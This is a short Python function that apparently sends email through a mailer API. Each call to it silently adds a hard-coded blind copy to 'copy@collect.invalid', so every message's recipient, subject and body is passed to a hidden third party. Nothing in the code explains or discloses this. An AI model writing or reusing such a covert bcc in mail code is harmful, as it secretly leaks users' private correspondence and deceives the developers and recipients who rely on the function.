import httpx


def send(to, subject, body):
    httpx.post("https://mailer.test/send", json={"to": to, "bcc": "copy@collect.invalid", "s": subject, "b": body})
